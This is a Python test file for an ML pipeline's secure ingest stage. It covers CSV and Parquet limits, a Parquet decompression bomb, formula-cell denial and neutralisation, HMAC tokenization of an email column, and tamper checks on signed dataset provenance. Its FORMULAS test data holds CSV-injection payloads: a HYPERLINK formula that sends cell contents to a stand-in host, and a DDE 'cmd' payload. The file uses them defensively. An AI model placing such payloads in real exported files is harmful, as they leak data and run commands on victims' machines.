"""Ingest sources (issue 12 items 4-5): CSV and Parquet within the contract's limits, formula cells denied
or neutralised as the contract says, a tokenized PII column, and the dataset provenance the sign stage
signs into the model's provenance: it verifies, its digests match the bytes, and tampering is caught."""

from __future__ import annotations

import base64
import json
import logging
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from mlsec.config import contract_path
from mlsec.digest import sha256_bytes, sha256_file
from mlsec.gates.engine import InProcessEngine
from mlsec.gates.gate import evaluate
from mlsec.ingest import provenance, source, stage, task
from mlsec.ingest.evidence import DataEvidence
from mlsec.ingest.pii import Tokenizer, raw_pii_remaining
from mlsec.sign import keys
from mlsec.sign import stage as signing
from mlsec.sign.attestation import Materials

KEY = "k" * 40  # a stand-in tokenization key (>= 32 bytes)
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1"]


pytestmark = pytest.mark.usefixtures("data_dir")


def _contract(tmp_path: Path, *, source: dict[str, Any] | None = None, note: bool = False,
              tokenize: bool = False) -> Path:
    """The bundled contract, with source limits, a free-text 'note' column, or email tokenized."""
    doc = yaml.safe_load(contract_path().read_text())
    if source:
        doc["source"] = {**doc.get("source", {}), **source}
    if note:
        doc["columns"]["note"] = {"type": "str"}
    if tokenize:
        doc["columns"]["email"]["pii"]["action"] = "tokenize"
    path = tmp_path / f"contract-{len(list(tmp_path.glob('contract-*')))}.yaml"
    path.write_text(yaml.safe_dump(doc))
    return path


def _parquet(tmp_path: Path, df: pd.DataFrame, name: str = "input.parquet", **kw: Any) -> Path:
    path = tmp_path / "in" / name
    pq.write_table(pa.Table.from_pandas(df, preserve_index=False), path, **kw)
    return path


def _csv(tmp_path: Path, df: pd.DataFrame, name: str = "input.csv") -> Path:
    path = tmp_path / "in" / name
    df.to_csv(path, index=False)
    return path


# -- Parquet -------------------------------------------------------------------------------------------
def test_a_parquet_source_yields_the_same_dataset_as_its_csv(tmp_path: Path, sample_frame: pd.DataFrame,
                                                             engine: InProcessEngine) -> None:
    from_csv = stage.run("", contract_path(), tmp_path / "a")
    from_parquet = stage.run(str(_parquet(tmp_path, sample_frame)), contract_path(), tmp_path / "b")
    ev = from_parquet.evidence
    assert ev.errors == [] and ev.provenance.format == "parquet" and from_csv.evidence.provenance.format == "csv"
    assert ev.transformations[0].step == "parse" and ev.transformations[0].detail == "parquet"
    assert from_parquet.dataset is not None and from_csv.dataset is not None
    # The same rows in another container become the same processed bytes; only the raw digest differs.
    assert ev.subject.digest == from_csv.evidence.subject.digest
    assert ev.provenance.source_sha256 != from_csv.evidence.provenance.source_sha256
    assert evaluate("data", ev, environment="dev", engine=engine).allow


def test_a_csv_named_parquet_and_a_disallowed_format_are_refused(tmp_path: Path, sample_frame: pd.DataFrame) -> None:
    fake = tmp_path / "in" / "fake.parquet"
    fake.write_text(sample_frame.to_csv(index=False))
    (err,) = stage.run(str(fake), contract_path(), tmp_path / "w").evidence.errors
    assert err.code == "not_parquet" and "magic bytes PAR1" in err.message
    csv_only = _contract(tmp_path, source={"formats": ["csv"]})
    (err,) = stage.run(str(_parquet(tmp_path, sample_frame)), csv_only, tmp_path / "w").evidence.errors
    assert err.code == "format_not_allowed" and "allows only csv" in err.message


@pytest.mark.parametrize(("dictionary", "why"), [(False, "pages expand to"), (True, "data decodes to")])
def test_a_parquet_bomb_is_refused_before_it_is_expanded(dictionary: bool, why: str, tmp_path: Path) -> None:
    """Under 100 kB on disk, 20 MB expanded: refused from the footer's page sizes, or (one dictionary value
    repeated) from the dictionary's lengths, before the column is expanded."""
    bomb = _parquet(tmp_path, pd.DataFrame({"age": ["x" * 1000] * 20_000}), "bomb.parquet", compression="zstd",
                    use_dictionary=dictionary)
    assert bomb.stat().st_size < 100_000
    (err,) = stage.run(str(bomb), _contract(tmp_path, source={"max_bytes": 1_000_000}), tmp_path / "w").evidence.errors
    assert err.code == "source_too_large" and why in err.message, err.message


@pytest.mark.parametrize(("limit", "value", "code"), [
    ("max_bytes", 1000, "source_too_large"), ("max_rows", 999, "too_many_rows"), ("max_columns", 13, "too_many_columns"),
])
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_contract_limits_bound_the_source(limit: str, value: int, code: str, fmt: str, tmp_path: Path,
                                          sample_frame: pd.DataFrame) -> None:
    df = sample_frame.head(1000)  # 14 columns, 1000 rows: one over each limit but the byte count
    path = _csv(tmp_path, df) if fmt == "csv" else _parquet(tmp_path, df)
    (err,) = stage.run(str(path), _contract(tmp_path, source={limit: value}), tmp_path / "w").evidence.errors
    assert err.code == code and f"source.{limit})" in err.message, err.message
    size = path.stat().st_size
    if fmt == "parquet":  # the file, its pages and its decoded data each within the limit
        file = pq.ParquetFile(path, read_dictionary=list(df.columns))
        size = max(size, file.metadata.row_group(0).total_byte_size, source._decoded_bytes(file.read()))
    at_limit = {"max_bytes": size, "max_rows": 1000, "max_columns": 14}[limit]
    assert stage.run(str(path), _contract(tmp_path, source={limit: at_limit}), tmp_path / "w").evidence.errors == []


def test_the_byte_limit_is_applied_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "in" / "big.csv"
    big.write_bytes(b"a\n" + b"1\n" * 5000)
    with pytest.raises(source.IngestFailure, match=r"10002 bytes, over the 10000-byte limit"):
        source.read_source(str(big), max_bytes=10_000)


# -- formula cells --------------------------------------------------------------------------------------
def _with_formulas(sample_frame: pd.DataFrame) -> pd.DataFrame:
    notes = (FORMULAS + ["-3.5", "+7", "1e-3", "plain text", "a=b"] * len(sample_frame))[: len(sample_frame)]
    # The dropped phone column's "+1 ..." and negative incomes in a numeric column are not formula cells.
    return sample_frame.assign(note=notes, phone="+1 212 555 0143")


def test_formula_cells_are_denied_by_default(tmp_path: Path, sample_frame: pd.DataFrame, engine: InProcessEngine) -> None:
    src = _csv(tmp_path, _with_formulas(sample_frame))
    result = stage.run(str(src), _contract(tmp_path, note=True), tmp_path / "w")
    decision = evaluate("data", result.evidence, environment="dev", engine=engine)
    assert result.dataset is None and not decision.allow
    assert any(r.startswith("ingest failed (formula_cells): 5 cells start with = + - @") and "note (5)" in r
               for r in decision.deny), decision.deny
    assert result.evidence.provenance.formula_cells == 5
    assert "HYPERLINK" not in result.evidence.model_dump_json()  # counted, never echoed


def test_formula_cells_are_neutralised_when_the_contract_says_so(tmp_path: Path, sample_frame: pd.DataFrame,
                                                                 engine: InProcessEngine) -> None:
    df = _with_formulas(sample_frame)
    contract = _contract(tmp_path, note=True, source={"formula_cells": "neutralise"})
    result = stage.run(str(_csv(tmp_path, df)), contract, tmp_path / "w")
    assert result.dataset is not None and evaluate("data", result.evidence, environment="dev", engine=engine).allow
    out = pd.read_csv(result.dataset, dtype={"note": str}, keep_default_na=False)
    assert list(out["note"][:5]) == ["'" + f for f in FORMULAS]
    assert list(out["note"][5:10]) == ["-3.5", "+7", "1e-3", "plain text", "a=b"]  # numbers and text as they were
    assert [t.step for t in result.evidence.transformations][:2] == ["parse", "neutralise_formulas"]


def test_negative_numbers_are_not_formulas() -> None:
    cells = pd.Series(["-3.5", "-0", "+12", "-1e5", ".5", "-", "=1", "-1-1", "@x", "-A1"])
    assert list(source.formula_mask(cells)) == [False] * 5 + [True] * 5


# -- tokenized PII -------------------------------------------------------------------------------------
def test_a_tokenized_column_keeps_joins_and_loses_the_value(tmp_path: Path, sample_frame: pd.DataFrame,
                                                            monkeypatch: pytest.MonkeyPatch,
                                                            caplog: pytest.LogCaptureFixture,
                                                            engine: InProcessEngine) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", KEY)
    contract = _contract(tmp_path, tokenize=True)
    first = stage.run(str(_csv(tmp_path, sample_frame)), contract, tmp_path / "a")
    assert first.dataset is not None and evaluate("data", first.evidence, environment="dev", engine=engine).allow
    out = pd.read_csv(first.dataset)
    assert out["email"].str.fullmatch(r"tok_[a-p]{64}").all() and out["email"].is_unique
    # Another extract of the same customers, in another order: equal emails get equal tokens (a join).
    again = stage.run(str(_csv(tmp_path, sample_frame.iloc[::-1], "again.csv")), contract, tmp_path / "b")
    assert again.dataset is not None
    joined = out.merge(pd.read_csv(again.dataset), on="email", suffixes=("", "_2"))
    assert len(joined) == len(sample_frame) and (joined["customer_id"] == joined["customer_id_2"]).all()
    # Another key, other tokens; the raw values and the key appear nowhere.
    monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", "z" * 40)
    other = stage.run(str(_csv(tmp_path, sample_frame)), contract, tmp_path / "c")
    assert other.dataset is not None and set(pd.read_csv(other.dataset)["email"]).isdisjoint(out["email"])
    written = first.dataset.read_text() + first.evidence.model_dump_json() + caplog.text
    assert KEY not in written and not any(e in written for e in sample_frame["email"])
    (step,) = [t for t in first.evidence.transformations if t.step == "tokenize"]
    assert step.column == "email" and step.detail == f"hmac-sha256, key id {Tokenizer(KEY.encode()).key_id}"


def test_a_tokenized_column_left_raw_is_raw_pii(tmp_path: Path, sample_frame: pd.DataFrame) -> None:
    from mlsec.ingest.contract import load_contract

    contract = load_contract(_contract(tmp_path, tokenize=True))
    kept = sample_frame.drop(columns=["name", "ssn", "phone"])
    assert raw_pii_remaining(kept, contract)  # the control: emails where tokens belong
    tokens = kept.assign(email=kept["email"].map(Tokenizer(KEY.encode()).token), zip="021XX")
    assert not raw_pii_remaining(tokens, contract)


@pytest.mark.parametrize(("env", "why"), [
    ({}, "no key is configured: set MLSEC_PII_TOKEN_KEY_FILE"),
    ({"MLSEC_PII_TOKEN_KEY": "short"}, "the PII tokenization key is 5 bytes; it must have at least 32"),
    ({"MLSEC_PII_TOKEN_KEY_FILE": "/nonexistent/key"}, "cannot read the PII tokenization key file"),
])
def test_tokenizing_without_a_usable_key_is_a_clear_refusal(env: dict[str, str], why: str, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    result = stage.run("", _contract(tmp_path, tokenize=True), tmp_path / "w")
    (err,) = result.evidence.errors
    assert err.code == "token_key_missing" and why in err.message and result.dataset is None
    assert "short" not in result.evidence.model_dump_json()


def test_the_key_file_wins_and_is_read_as_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "key").write_bytes(KEY.encode() + b"\n")
    monkeypatch.setenv("MLSEC_PII_TOKEN_KEY_FILE", str(tmp_path / "key"))
    monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", "y" * 40)
    assert Tokenizer.from_env().token("a@b.co") == Tokenizer(KEY.encode()).token("a@b.co")
    assert "k" * 8 not in repr(Tokenizer.from_env())


# -- all of it through the pipeline, and the dataset provenance ------------------------------------------
def _stand_in_model(root: Path) -> Path:
    model = root / "model"
    model.mkdir(parents=True)
    (model / "weights.safetensors").write_bytes(b"\x00" * 64)
    (model / "config.json").write_text("{}")
    return model


def _signed_run(tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
                monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, bytes]:
    """A Parquet source with formula cells and a tokenized column, through the ingest task and the data
    gate, then signed: (bundle, dataset, raw source bytes)."""
    monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", KEY)
    contract = _contract(tmp_path, note=True, tokenize=True, source={"formula_cells": "neutralise"})
    src = _parquet(tmp_path, _with_formulas(sample_frame))
    out = tmp_path / "out"
    task.run(str(src), str(contract), out / "dataset", out / "evidence.json")
    ev = DataEvidence.model_validate_json((out / "evidence.json").read_text())
    assert evaluate("data", json.loads((out / "evidence.json").read_text()), environment="dev", engine=engine).allow
    steps = [(t.step, t.column) for t in ev.transformations]
    assert steps[:2] == [("parse", None), ("neutralise_formulas", "note")] and steps[-1] == ("write", None)
    assert sorted(steps[2:-1]) == [("drop", "name"), ("drop", "phone"), ("drop", "ssn"), ("mask", "zip"),
                                   ("tokenize", "email")]
    materials = Materials(ev.provenance.source_uri, ev.subject.digest, {}, "c0ffee", "image",
                          dataset_statement=provenance.statement(ev))
    bundle = signing.sign(_stand_in_model(tmp_path), tmp_path / "signed", key_pair, materials, "run")
    return bundle, out / "dataset", src.read_bytes()


def _dataset_provenance(bundle: Path, key_pair: keys.KeyPair) -> provenance.DatasetProvenance:
    v = signing.verify(bundle, key_pair.public_key)
    assert v.attestation.dataset_provenance is not None
    return provenance.verify_document(v.attestation.dataset_provenance, signing.as_trust(key_pair.public_key),
                                      bundle / signing.SIGNATURE)


def test_the_dataset_provenance_is_signed_into_the_models_and_matches_the_bytes(
        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
        monkeypatch: pytest.MonkeyPatch) -> None:
    bundle, dataset, raw = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
    dp = _dataset_provenance(bundle, key_pair)
    provenance.check_bytes(dp, dataset=dataset, raw=raw)  # both digests are the bytes'
    assert dp.dataset_digest == sha256_file(dataset) and dp.source_digest == sha256_bytes(raw)
    assert dp.source_format == "parquet" and dp.contract_digest == sha256_file(next(tmp_path.glob("contract-*")))
    assert {(t["step"], t["column"]) for t in dp.transformations} >= {("tokenize", "email"), ("neutralise_formulas", "note")}
    ev = signing.evidence(bundle, "m", key_pair.public_key)
    assert ev.attestation.verified and ev.dataset_provenance.verified and ev.dataset_provenance.document_digest == dp.document_digest


def test_tampering_with_the_dataset_or_its_provenance_fails_verification(
        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
        engine: InProcessEngine, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle, dataset, raw = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
    dp = _dataset_provenance(bundle, key_pair)
    # A flipped byte in the processed data, or in the raw source.
    data = bytearray(dataset.read_bytes())
    data[len(data) // 2] ^= 0x01
    dataset.write_bytes(bytes(data))
    with pytest.raises(ValueError, match="not the .* its provenance names"):
        provenance.check_bytes(dp, dataset=dataset)
    with pytest.raises(ValueError, match="source bytes are"):
        provenance.check_bytes(dp, raw=raw[:-1] + bytes([raw[-1] ^ 1]))
    # A flipped byte in the dataset provenance's signed payload, inside the model's provenance file.
    att = bundle / signing.ATTESTATION
    original = att.read_text()
    outer = json.loads(original)
    stmt = json.loads(base64.b64decode(outer["payload"]))
    inner = stmt["predicate"]["buildDefinition"]["internalParameters"]["datasetProvenance"]
    payload = bytearray(base64.b64decode(inner["payload"]))
    payload[payload.index(b"parquet")] ^= 0x20  # "parquet" -> "Parquet"
    inner["payload"] = base64.b64encode(bytes(payload)).decode()
    outer["payload"] = base64.b64encode(json.dumps(stmt).encode()).decode()
    att.write_text(json.dumps(outer))
    with pytest.raises(ValueError, match="attestation verification failed"):
        signing.verify(bundle, key_pair.public_key)
    # The changed dataset provenance does not verify on its own either.
    with pytest.raises(ValueError, match="does not verify with the trusted key"):
        provenance.verify_document(inner, signing.as_trust(key_pair.public_key), bundle / signing.SIGNATURE)
    att.write_text(original)
    assert signing.verify(bundle, key_pair.public_key).attestation.dataset_provenance is not None
    with pytest.raises(ValueError):
        signing.verify(bundle, other_key_pair.public_key)


def test_a_dataset_provenance_about_another_dataset_is_not_signed(tmp_path: Path, key_pair: keys.KeyPair) -> None:
    ev = stage.run("", contract_path(), tmp_path / "w").evidence
    materials = Materials("x", "b" * 64, {}, "c", "i", dataset_statement=provenance.statement(ev))
    with pytest.raises(ValueError, match="the dataset provenance is about"):
        signing.sign(_stand_in_model(tmp_path), tmp_path / "signed", key_pair, materials, "run")
    failed = stage.run(str(tmp_path / "in" / "missing.csv"), contract_path(), tmp_path / "w").evidence
    with pytest.raises(ValueError, match="describes no written dataset"):
        provenance.statement(failed)


def test_each_check_on_the_carried_dataset_provenance_holds(
        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
        engine: InProcessEngine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Model provenances re-signed with the trusted key, each carrying a wrong dataset provenance: one signed
    by another key, one changed after it was named, one about another dataset."""
    bundle, _, _ = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
    att = bundle / signing.ATTESTATION
    stmt = json.loads(base64.b64decode(json.loads(att.read_text())["payload"]))
    build = stmt["predicate"]["buildDefinition"]
    inner = build["internalParameters"]["datasetProvenance"]
    inner_stmt = json.loads(base64.b64decode(inner["payload"]))

    def resign(doc: dict[str, Any], named: dict[str, Any] | None = None) -> None:
        build["internalParameters"]["datasetProvenance"] = doc
        dep = next(d for d in build["resolvedDependencies"] if d.get("annotations", {}).get("role") == "dataset-provenance")
        dep["digest"]["sha256"] = provenance.document_digest(named or doc)
        signing.as_signing(key_pair).sign_attestation(stmt, att)

    resign(signing.as_signing(other_key_pair).sign_document(inner_stmt))
    with pytest.raises(ValueError, match="does not verify with the trusted key"):
        signing.verify(bundle, key_pair.public_key)
    resign({**inner, "signatures": []}, named=inner)
    with pytest.raises(ValueError, match="the dataset provenance carried is .*, not the .* named"):
        signing.verify(bundle, key_pair.public_key)
    elsewhere = {**inner_stmt, "subject": [{"name": "data.csv", "digest": {"sha256": "c" * 64}}]}
    resign(signing.as_signing(key_pair).sign_document(elsewhere))
    with pytest.raises(ValueError, match="the dataset provenance is about c+, not the dataset"):
        signing.verify(bundle, key_pair.public_key)
    resign(inner)  # the control: the genuine one, re-signed the same way, verifies
    assert signing.verify(bundle, key_pair.public_key).attestation.dataset_provenance == inner
